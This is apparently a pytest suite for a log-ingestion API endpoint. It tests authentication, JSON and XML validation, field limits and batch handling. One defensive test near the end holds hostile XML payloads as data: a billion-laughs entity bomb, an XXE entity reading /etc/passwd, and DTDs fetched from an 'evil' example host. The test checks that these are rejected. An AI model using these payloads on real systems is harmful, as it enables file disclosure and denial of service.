"""POST /api/Log: Logster log messages, as JSON or XML, one or a batch."""

import pytest
from rest_framework.test import APIClient

from conftest import client_with_key, make_key
from events.models import LogMessage

URL = "/api/Log"
INVALID = "The request is invalid."


def message(**fields):
    return {"Message": "Uh-oh, something happened.", "Severity": 4, **fields}


def post_xml(client, body, content_type="application/xml"):
    return client.post(URL, body, content_type=content_type)


# --- owner, outsider, no key, scope --------------------------------------------------------------


def test_it_stores_a_json_message(api_client, alice):
    r = api_client.post(
        URL,
        message(Exception="boom", StackTrace="at X", Category="cat", Application="app", User="john"),
        format="json",
    )
    assert r.status_code == 200
    stored = LogMessage.objects.get()
    assert r.json() == {"MessageId": str(stored.pk)}
    assert stored.owner == alice
    assert (stored.message, stored.severity) == ("Uh-oh, something happened.", 4)
    assert (stored.exception, stored.stack_trace) == ("boom", "at X")
    assert (stored.category, stored.application, stored.user) == ("cat", "app", "john")


def test_it_accepts_the_apikey_header(alice, alice_key):
    client = APIClient()
    client.credentials(HTTP_APIKEY=alice_key)
    r = client.post(URL, message(), format="json")
    assert r.status_code == 200
    assert LogMessage.objects.get().owner == alice


def test_it_stores_an_outsiders_message_as_his_own(charlie_client, alice, charlie):
    r = charlie_client.post(URL, message(), format="json")
    assert r.status_code == 200
    assert LogMessage.objects.get(pk=r.json()["MessageId"]).owner == charlie
    assert not LogMessage.objects.owned_by(alice).exists()


def test_it_rejects_a_missing_key(anon_client, db):
    r = anon_client.post(URL, message(), format="json")
    assert r.status_code == 401
    assert r.json() == {"Message": "Authorization has been denied for this request."}
    assert not LogMessage.objects.exists()


def test_it_rejects_an_unknown_key(alice):
    client = APIClient()
    client.credentials(HTTP_APIKEY="lsk_0000000000000000000000000000")
    r = client.post(URL, message(), format="json")
    assert r.status_code == 401
    assert r.json() == {"Message": "Authorization has been denied for this request."}
    assert not LogMessage.objects.exists()


def test_it_rejects_a_key_without_the_logs_write_scope(alice):
    client = client_with_key(make_key(alice, "logs:read", "events:write"))
    r = client.post(URL, message(), format="json")
    assert r.status_code == 403
    assert "logs:write" in r.json()["Message"]
    assert not LogMessage.objects.exists()


# --- JSON ----------------------------------------------------------------------------------------


def test_it_reads_property_names_case_insensitively(api_client):
    r = api_client.post(
        URL, {"message": "lower", "SEVERITY": 2, "stacktrace": "st", "aPPlication": "app"}, format="json"
    )
    assert r.status_code == 200
    stored = LogMessage.objects.get()
    assert (stored.message, stored.severity, stored.stack_trace, stored.application) == ("lower", 2, "st", "app")


@pytest.mark.parametrize(("severity", "stored"), [("4", 4), (" 5 ", 5), (4.0, 4), (0, 0), (6, 6)])
def test_it_accepts_a_severity_json_net_would(api_client, severity, stored):
    r = api_client.post(URL, message(Severity=severity), format="json")
    assert r.status_code == 200
    assert LogMessage.objects.get().severity == stored


def test_it_reads_a_number_into_a_text_field_as_a_string(api_client):
    r = api_client.post(URL, message(Message=42, User=7.5), format="json")
    assert r.status_code == 200
    stored = LogMessage.objects.get()
    assert (stored.message, stored.user) == ("42", "7.5")


def test_it_reads_null_optional_fields_as_empty(api_client):
    r = api_client.post(URL, message(Exception=None, Category=None), format="json")
    assert r.status_code == 200
    stored = LogMessage.objects.get()
    assert (stored.exception, stored.category) == ("", "")


@pytest.mark.parametrize(
    ("fields", "model_state"),
    [
        ({"Severity": "abc"}, {"message.Severity": ["The value 'abc' is not valid for Severity."]}),
        ({"Severity": True}, {"message.Severity": ["The value 'true' is not valid for Severity."]}),
        ({"Severity": 4.5}, {"message.Severity": ["The value '4.5' is not valid for Severity."]}),
        ({"Severity": [4]}, {"message.Severity": ["The value '[4]' is not valid for Severity."]}),
        ({"Severity": 7}, {"message.Severity": ["The field Severity must be between 0 and 6."]}),
        ({"Severity": -1}, {"message.Severity": ["The field Severity must be between 0 and 6."]}),
        ({"Severity": None}, {"message.Severity": ["The Severity field is required."]}),
        ({"Severity": ""}, {"message.Severity": ["The Severity field is required."]}),
        ({"Message": {"text": "hi"}}, {"message.Message": ["The field Message must be a string."]}),
        ({"Message": ["hi"]}, {"message.Message": ["The field Message must be a string."]}),
        ({"Message": True}, {"message.Message": ["The field Message must be a string."]}),
        ({"Message": "   "}, {"message.Message": ["The Message field is required."]}),
        ({"Message": None}, {"message.Message": ["The Message field is required."]}),
        ({"Category": {"a": 1}}, {"message.Category": ["The field Category must be a string."]}),
    ],
)
def test_it_rejects_wrong_types(api_client, fields, model_state):
    r = api_client.post(URL, message(**fields), format="json")
    assert r.status_code == 400
    assert r.json() == {"Message": INVALID, "ModelState": model_state}
    assert not LogMessage.objects.exists()


def test_it_requires_message_and_severity(api_client):
    r = api_client.post(URL, {"Category": "c"}, format="json")
    assert r.status_code == 400
    assert r.json()["ModelState"] == {
        "message.Message": ["The Message field is required."],
        "message.Severity": ["The Severity field is required."],
    }
    assert not LogMessage.objects.exists()


@pytest.mark.parametrize(
    ("field", "limit"),
    [
        ("Message", 32_768),
        ("Exception", 262_144),
        ("StackTrace", 262_144),
        ("Category", 256),
        ("Application", 256),
        ("User", 256),
    ],
)
def test_it_enforces_field_lengths(api_client, field, limit):
    r = api_client.post(URL, message(**{field: "x" * (limit + 1)}), format="json")
    assert r.status_code == 400
    assert r.json()["ModelState"] == {
        f"message.{field}": [f"The field {field} must be a string with a maximum length of {limit}."]
    }
    assert not LogMessage.objects.exists()

    r = api_client.post(URL, message(**{field: "x" * limit}), format="json")
    assert r.status_code == 200
    attr = "stack_trace" if field == "StackTrace" else field.lower()
    assert getattr(LogMessage.objects.get(), attr) == "x" * limit


def test_it_rejects_malformed_json(api_client):
    r = api_client.post(URL, b'{"Message": "x", "Severity": ', content_type="application/json")
    assert r.status_code == 400
    body = r.json()
    assert body["Message"] == INVALID
    assert list(body["ModelState"]) == ["message"]
    assert not LogMessage.objects.exists()


@pytest.mark.parametrize("body", [b'"just a string"', b"42", b"null", b"true"])
def test_it_rejects_a_body_that_is_not_an_object(api_client, body):
    r = api_client.post(URL, body, content_type="application/json")
    assert r.status_code == 400
    assert r.json()["Message"] == INVALID
    assert "message" in r.json()["ModelState"]
    assert not LogMessage.objects.exists()


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "application/yaml"])
def test_it_rejects_an_unsupported_content_type(api_client, content_type):
    r = api_client.post(URL, "Message=x&Severity=4", content_type=content_type)
    assert r.status_code == 415
    assert set(r.json()) == {"Message"}
    assert content_type in r.json()["Message"]
    assert not LogMessage.objects.exists()


@pytest.mark.parametrize("field", ["Message", "Category", "StackTrace"])
def test_it_rejects_a_nul_character(api_client, field):
    # PostgreSQL text can't hold U+0000: it must be a 400, not a 500
    r = api_client.post(URL, message(**{field: "a\x00b"}), format="json")
    assert r.status_code == 400
    assert r.json()["Message"] == INVALID
    assert f"message.{field}" in r.json()["ModelState"]
    assert not LogMessage.objects.exists()


def test_it_stores_a_retry_with_the_same_idempotency_key_once(api_client):
    first = api_client.post(URL, message(), format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    second = api_client.post(URL, message(), format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert first.status_code == second.status_code == 200
    assert first.json() == second.json() == {"MessageId": str(LogMessage.objects.get().pk)}


# --- JSON batches ----------------------------------------------------------------------------------


def test_it_stores_a_json_batch_in_order(api_client, alice):
    r = api_client.post(URL, [message(Message=f"m{i}", Severity=i) for i in range(5)], format="json")
    assert r.status_code == 200
    ids = [item["MessageId"] for item in r.json()]
    assert all(isinstance(i, str) and i.isdigit() for i in ids)
    stored = {str(m.pk): m for m in LogMessage.objects.owned_by(alice)}
    assert set(stored) == set(ids)
    assert [(stored[i].message, stored[i].severity) for i in ids] == [(f"m{i}", i) for i in range(5)]


def test_it_stores_a_batch_of_1000(api_client):
    r = api_client.post(URL, [message(Message=f"m{i}") for i in range(1000)], format="json")
    assert r.status_code == 200
    assert len({item["MessageId"] for item in r.json()}) == 1000
    assert LogMessage.objects.count() == 1000


def test_it_rejects_a_batch_of_1001(api_client):
    r = api_client.post(URL, [message()] * 1001, format="json")
    assert r.status_code == 400
    assert r.json()["Message"] == INVALID
    assert "batch" in r.json()["ModelState"]
    assert not LogMessage.objects.exists()


def test_it_rejects_an_empty_batch(api_client):
    r = api_client.post(URL, [], format="json")
    assert r.status_code == 400
    assert "batch" in r.json()["ModelState"]
    assert not LogMessage.objects.exists()


def test_it_stores_nothing_of_a_batch_with_one_bad_item(api_client):
    items = [message(Message=f"m{i}") for i in range(6)]
    items[3] = {"Severity": 9}
    items[5] = "not an object"
    r = api_client.post(URL, items, format="json")
    assert r.status_code == 400
    assert r.json() == {
        "Message": INVALID,
        "ModelState": {
            "message[3].Message": ["The Message field is required."],
            "message[3].Severity": ["The field Severity must be between 0 and 6."],
            "message[5]": ["The message must be an object with at least Message and Severity."],
        },
    }
    assert not LogMessage.objects.exists()


# --- XML -------------------------------------------------------------------------------------------


def test_it_keeps_every_xml_value_a_string(api_client, alice):
    r = post_xml(
        api_client,
        "<LogMessage><Message>42</Message><Severity>4</Severity>"
        "<Exception>2021-07-04 13:34:56</Exception></LogMessage>",
    )
    assert r.status_code == 200
    stored = LogMessage.objects.get()
    assert r.json() == {"MessageId": str(stored.pk)}
    assert (stored.owner, stored.message, stored.severity, stored.exception) == (alice, "42", 4, "2021-07-04 13:34:56")


def test_it_accepts_text_xml_and_the_datacontract_namespace(api_client):
    r = post_xml(
        api_client,
        '<?xml version="1.0" encoding="utf-8"?>'
        '<LogMessage xmlns="http://schemas.datacontract.org/2004/07/Logster.Models">'
        "<Message>Uh &amp; oh</Message><Severity>1</Severity><User>ann</User></LogMessage>",
        content_type="text/xml; charset=utf-8",
    )
    assert r.status_code == 200
    stored = LogMessage.objects.get()
    assert (stored.message, stored.severity, stored.user) == ("Uh & oh", 1, "ann")


def test_it_rejects_an_xml_message_without_a_message(api_client):
    r = post_xml(api_client, "<LogMessage><Message></Message><Severity>x</Severity></LogMessage>")
    assert r.status_code == 400
    assert r.json() == {
        "Message": INVALID,
        "ModelState": {
            "message.Message": ["The Message field is required."],
            "message.Severity": ["The value 'x' is not valid for Severity."],
        },
    }
    assert not LogMessage.objects.exists()


def test_it_stores_an_xml_batch(api_client, alice):
    r = post_xml(
        api_client,
        "<ArrayOfLogMessage>"
        "<LogMessage><Message>one</Message><Severity>1</Severity></LogMessage>"
        "<LogMessage><Message>two</Message><Severity>2</Severity></LogMessage>"
        "</ArrayOfLogMessage>",
    )
    assert r.status_code == 200
    ids = [item["MessageId"] for item in r.json()]
    assert [LogMessage.objects.get(pk=i).message for i in ids] == ["one", "two"]
    assert LogMessage.objects.owned_by(alice).count() == 2


def test_it_stores_nothing_of_an_xml_batch_with_one_bad_item(api_client):
    r = post_xml(
        api_client,
        "<ArrayOfLogMessage>"
        "<LogMessage><Message>one</Message><Severity>1</Severity></LogMessage>"
        "<LogMessage><Message>two</Message><Severity>8</Severity></LogMessage>"
        "</ArrayOfLogMessage>",
    )
    assert r.status_code == 400
    assert r.json()["ModelState"] == {"message[1].Severity": ["The field Severity must be between 0 and 6."]}
    assert not LogMessage.objects.exists()


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<LogMessage><Message>&lol9;</Message><Severity>1</Severity></LogMessage>"""


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            "<LogMessage><Message>&e;</Message><Severity>1</Severity></LogMessage>",
            id="external-entity",
        ),
        pytest.param(
            '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>'
            "<LogMessage><Message>x</Message><Severity>1</Severity></LogMessage>",
            id="parameter-entity",
        ),
        pytest.param(
            '<!DOCTYPE LogMessage SYSTEM "http://example.com/x.dtd">'
            "<LogMessage><Message>x</Message><Severity>1</Severity></LogMessage>",
            id="external-dtd",
        ),
        pytest.param("<LogMessage><Message>x</Message><Severity>1</Severity>", id="unclosed"),
        pytest.param("<LogMessage><Message>x</Severity></LogMessage>", id="mismatched"),
        pytest.param("not xml at all", id="not-xml"),
    ],
)
def test_it_rejects_hostile_or_malformed_xml(api_client, body):
    r = post_xml(api_client, body)
    assert r.status_code == 400
    assert r.json()["Message"] == INVALID
    assert list(r.json()["ModelState"]) == ["message"]
    assert "root:" not in r.content.decode()  # nothing of /etc/passwd leaks
    assert not LogMessage.objects.exists()


def test_it_rejects_xml_with_too_many_elements(api_client):
    body = "<LogMessage><Message>x</Message><Severity>1</Severity>" + "<a/>" * 20_001 + "</LogMessage>"
    r = post_xml(api_client, body)
    assert r.status_code == 400
    assert r.json()["Message"] == INVALID
    assert not LogMessage.objects.exists()


def test_it_reads_pretty_printed_xml(api_client):
    body = """<?xml version="1.0" encoding="utf-8"?>
<ArrayOfLogMessage xmlns:i="http://www.w3.org/2001/XMLSchema-instance">
  <LogMessage>
    <Message>first line
second line</Message>
    <Severity>
      3
    </Severity>
    <StackTrace><![CDATA[at <Module>.Main() & more]]></StackTrace>
  </LogMessage>
</ArrayOfLogMessage>"""
    r = post_xml(api_client, body)
    assert r.status_code == 200
    stored = LogMessage.objects.get(pk=r.json()[0]["MessageId"])
    assert (stored.message, stored.severity, stored.stack_trace) == (
        "first line\nsecond line",
        3,
        "at <Module>.Main() & more",
    )


def test_it_rejects_an_xml_batch_of_1001(api_client):
    item = "<LogMessage><Message>m</Message><Severity>1</Severity></LogMessage>"
    r = post_xml(api_client, f"<ArrayOfLogMessage>{item * 1001}</ArrayOfLogMessage>")
    assert r.status_code == 400
    assert list(r.json()["ModelState"]) == ["batch"]
    assert not LogMessage.objects.exists()
